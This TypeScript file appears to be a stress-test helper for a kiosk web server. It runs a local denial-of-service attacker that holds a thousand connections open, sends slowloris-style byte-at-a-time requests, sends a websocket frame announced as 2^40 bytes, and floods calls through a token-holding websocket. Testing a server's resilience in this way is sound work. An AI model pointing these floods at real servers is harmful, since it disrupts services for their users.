import { connect, type Socket } from 'node:net';
import { setPriority } from 'node:os';
import { setTimeout } from 'node:timers/promises';
import { WebSocket } from 'ws';
import { packQuestion } from '../../contract/transport/messages.js';

/*
 * A program that attacks a web host until it is killed: `node attacker.js PORT TOKEN`. It says "ready" once all of its
 * connections have been open. It has the lowest priority: any program can take processor time from the kiosk, and no
 * limit of a server prevents that.
 */

const [port = '', token = ''] = process.argv.slice(2);
const host = `127.0.0.1:${port}`;
const headers = `Host: ${host}\r\nOrigin: http://${host}\r\n`;
setPriority(19);

/** 250 of each kind: a thousand connections. */
const perKind = 250;
/** Pause between the end of a connection and the next one in its place, in ms. */
const againMs = 1_000;

let opened = 0;

/** Opens a connection again and again. @param attack writes on it. */
async function keepOpen(attack: (socket: Socket) => void): Promise<void> {
  for (let isFirst = true; ; isFirst = false) {
    const socket = connect(Number(port), '127.0.0.1');
    socket.on('error', () => undefined);
    socket.resume();
    const closed = new Promise((resolve) => socket.once('close', resolve));
    socket.once('connect', () => {
      if (isFirst && ++opened === 4 * perKind) process.send?.('ready');
      attack(socket);
    });
    await closed;
    await setTimeout(againMs);
  }
}

/** A request that never ends: a byte each half second. */
function slowly(socket: Socket): void {
  const bytes = Buffer.from(`GET / HTTP/1.1\r\n${headers}X-Slow: ${'a'.repeat(1_000)}`);
  let at = 0;
  const timer = setInterval(() => socket.write(bytes.subarray(at, ++at)), 500);
  socket.once('close', () => {
    clearInterval(timer);
  });
}

/** Requests for pages, one after the other. */
function often(socket: Socket): void {
  const timer = setInterval(() => socket.write(`GET / HTTP/1.1\r\n${headers}\r\n`), 500);
  socket.once('close', () => {
    clearInterval(timer);
  });
}

/** A screen's connection, without its token, with a message that is announced as 2^40 bytes. */
function oversized(socket: Socket): void {
  const upgrade =
    'Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n';
  socket.write(`GET /rollcall?token=x HTTP/1.1\r\n${headers}${upgrade}\r\n`);
  socket.write(Buffer.from([0x82, 0xff, 0, 0, 1, 0, 0, 0, 0, 0, 1, 2, 3, 4]));
}

/**
 * Two screens with a token, as if somebody had stolen it: one floods the host with calls, one sends messages that are
 * too large.
 */
function flood(): void {
  const open = (onOpen: (socket: WebSocket) => void): void => {
    const socket = new WebSocket(`ws://${host}/rollcall?token=${token}`, {
      origin: `http://${host}`,
    });
    socket.on('error', () => undefined);
    socket.on('open', () => {
      onOpen(socket);
    });
    socket.on(
      'close',
      () =>
        void setTimeout(againMs).then(() => {
          open(onOpen);
        }),
    );
  };
  let id = 0;
  open((socket) => {
    const timer = setInterval(() => {
      for (let count = 0; count < 20; count++) {
        socket.send(packQuestion({ id: ++id, call: 'kiosk.brand', input: {} }));
      }
    }, 100);
    socket.on('close', () => {
      clearInterval(timer);
    });
  });
  open((socket) => {
    socket.send(Buffer.alloc(10_000_000));
  });
}

for (let count = 0; count < perKind; count++) {
  void keepOpen(() => undefined);
  void keepOpen(slowly);
  void keepOpen(often);
  void keepOpen(oversized);
}
flood();
